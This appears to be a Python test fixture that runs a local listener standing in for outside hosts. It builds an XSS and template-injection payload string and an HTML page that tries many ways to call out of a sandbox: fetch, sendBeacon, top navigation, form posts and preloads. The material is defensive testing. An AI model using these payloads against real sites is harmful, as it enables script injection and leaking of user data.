"""Another server on this machine, which stands for everything outside the desk: whoever calls it is noted."""

from __future__ import annotations

import socket
import threading
from types import TracebackType


class Outside:
    """Listens on a port; ``calls`` holds the first line of each call, or what came of a bare connection."""

    def __init__(self) -> None:
        self.calls: list[str] = []
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.address = f"http://127.0.0.1:{self._listening.getsockname()[1]}"

    def __enter__(self) -> Outside:
        threading.Thread(target=self._answer, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None) -> None:
        self._listening.close()

    def _answer(self) -> None:
        while True:
            try:
                call, _ = self._listening.accept()
            except OSError:
                return
            with call:
                call.settimeout(1)
                try:
                    self.calls.append(call.recv(2000).decode("latin-1").split("\r\n")[0] or "a connection")
                    call.sendall(b"HTTP/1.1 204 No Content\r\n\r\n")
                except OSError:
                    self.calls.append("a connection")

    def words(self) -> str:
        """Words that would run or call, if any place took them for more than words."""
        out = self.address
        return (
            f"\"'><script>fetch('{out}/s')</script><img src={out}/i onerror=alert(1)><svg onload=alert(2)>"
            f"<link rel=preconnect href={out}><iframe src={out}/f></iframe>{{{{7*7}}}}{{% x %}}${{7*7}}"
            f"<style>@import '{out}/c';</style><a href=javascript:alert(3)>x</a>]]>\u202eمقلوب\u2066"
        )

    def page(self) -> str:
        """A page that tries every way out of its frame."""
        out = self.address
        return f"""<!doctype html><html><head><title>x</title><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={out}/refresh"><base href="{out}/" target="_top">
<link rel="preconnect" href="{out}"><link rel="dns-prefetch" href="{out}"><link rel="stylesheet" href="{out}/css">
<link rel="prefetch" href="{out}/prefetch"><link rel="icon" href="{out}/icon"><LINK rel="modulepreload" href="{out}/module">
<script src="{out}/script"></script><style>@import url("{out}/import"); body {{ background: url({out}/background) }}
@font-face {{ font-family: f; src: url({out}/font) }} p {{ font-family: f }}</style></head>
<body onload="document.title='taken over'"><p>نص الصفحة</p>
<script>document.body.insertAdjacentHTML("beforeend", "<i id=written>x</i>"); alert(1);
try {{ top.location = "{out}/top" }} catch (e) {{}} try {{ parent.document.title = "taken over" }} catch (e) {{}}
fetch("{out}/fetch"); new Image().src = "{out}/image"; window.open("{out}/open"); navigator.sendBeacon("{out}/beacon");</script>
<img src="{out}/img" srcset="{out}/srcset 2x" onerror="alert(2)"><iframe src="{out}/frame"></iframe>
<object data="{out}/object"></object>
<embed src="{out}/embed"><video src="{out}/video" poster="{out}/poster" autoplay></video>
<audio src="{out}/audio" autoplay></audio>
<svg><image href="{out}/svg"/><use href="{out}/use#a"/></svg><input type="image" src="{out}/input"><body background="{out}/bg">
<a id="leave" href="{out}/link" ping="{out}/ping" target="_top">x</a>
<form id="form" action="{out}/form" method="post" target="_top"><button>x</button></form></body></html>"""
